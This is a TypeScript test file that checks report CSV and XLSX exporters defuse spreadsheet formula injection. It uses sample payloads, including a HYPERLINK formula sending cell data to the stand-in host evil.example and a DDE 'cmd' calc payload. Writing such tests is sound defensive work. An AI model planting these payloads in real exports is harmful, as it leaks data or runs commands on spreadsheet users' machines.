/**
 * CSV and XLSX exports never hand Excel a formula: a text cell beginning with =, +, -, @, tab or CR
 * (OWASP CSV injection) gets a leading ' and, in CSV, quotes; numbers stay numbers.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toCsv as reconcileCsv, toXlsx as reconcileXlsx } from '../../src/reconcile/report-formats.ts';
import type { ReconcileReport } from '../../src/reconcile/types.ts';
import { splitFields } from '../../src/sdk/csv.ts';
import { toCsv } from '../../src/reports/formats/csv.ts';
import { toXlsx } from '../../src/reports/formats/xlsx.ts';
import type { ReportTable } from '../../src/reports/formats/table.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
const HOSTILE = [HYPERLINK, '+1+cmd|\'/C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

const table: ReportTable = {
  sheet: 'Hồ sơ trễ hạn',
  title: 'Danh sách hồ sơ trễ hạn',
  meta: ['Kỳ: tháng 10/2026'],
  header: [[{ label: 'Trích yếu' }, { label: 'Số hồ sơ' }, { label: 'Chênh lệch' }]],
  columns: [{ kind: 'text' }, { kind: 'count' }, { kind: 'count' }],
  rows: HOSTILE.map((text, i) => ({ cells: [text, i + 1, -(i + 1)] })),
  notes: [],
};

const lines = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n');

async function readSheet(buffer: Buffer, sheet: number): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[sheet]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

describe('CSV injection', () => {
  it('neutralises every hostile text cell of a report CSV, keeping negative figures as numbers', () => {
    const csv = lines(toCsv(table));
    const body = csv.slice(4, 4 + HOSTILE.length);
    expect(body[0]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")",1,-1`);
    for (const [i, line] of body.entries()) {
      const fields = splitFields(line, ',');
      expect(fields[0]).toBe(`'${HOSTILE[i]!}`);
      expect(fields[2]).toBe(String(-(i + 1)));
    }
  });

  it('neutralises hostile text cells of a report XLSX; numbers stay numeric cells', async () => {
    const cells = await readSheet(await toXlsx([table]), 0);
    const texts = cells.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
    // (XML turns the CR of the last one into a line feed when read back; it is still guarded.)
    for (const h of HOSTILE) expect(texts).toContain(`'${h.replace('\r', '\n')}`);
    expect(texts.some((t) => /^[=+\-@\t\r]/.test(t))).toBe(false);
    expect(cells.filter((c) => typeof c.value === 'number').map((c) => c.value)).toContain(-6);
    expect(cells.some((c) => c.formula !== undefined)).toBe(false);
  });

  it('neutralises a dossier code or unit beginning with a formula in the reconcile CSV and XLSX', async () => {
    const report = {
      id: 'ds-1',
      createdAt: '2026-11-01T00:00:00.000Z',
      createdBy: null,
      scope: { target: 'national', from: '2026-10-01', to: '2026-10-31', unit: null },
      counts: [{ unitCode: '@SUM(1,2)', bucket: 'received', source: 3, ledger: 3, delivered: 2, portal: 2, differs: true }],
      differences: [{ code: HYPERLINK, unitCode: '-1+1', reason: 'duplicate_code', detail: { sources: ['a', 'b'] } }],
      notes: [],
      stats: {},
      exitCode: 2,
    } as unknown as ReconcileReport;
    const csv = lines(reconcileCsv(report));
    const fields = csv.flatMap((l) => splitFields(l, ','));
    expect(fields).toContain(`'${HYPERLINK}`);
    expect(fields).toContain("'@SUM(1,2)");
    expect(fields).toContain("'-1+1");
    expect(fields.some((f) => /^[=+\-@\t\r]/.test(f))).toBe(false);
    const xlsx = await reconcileXlsx(report);
    const texts = [...(await readSheet(xlsx, 0)), ...(await readSheet(xlsx, 1))].map((c) => c.value).filter((v): v is string => typeof v === 'string');
    expect(texts).toContain(`'${HYPERLINK}`);
    expect(texts).toContain("'@SUM(1,2)");
    expect(texts.some((t) => /^[=+\-@\t\r]/.test(t))).toBe(false);
  });
});
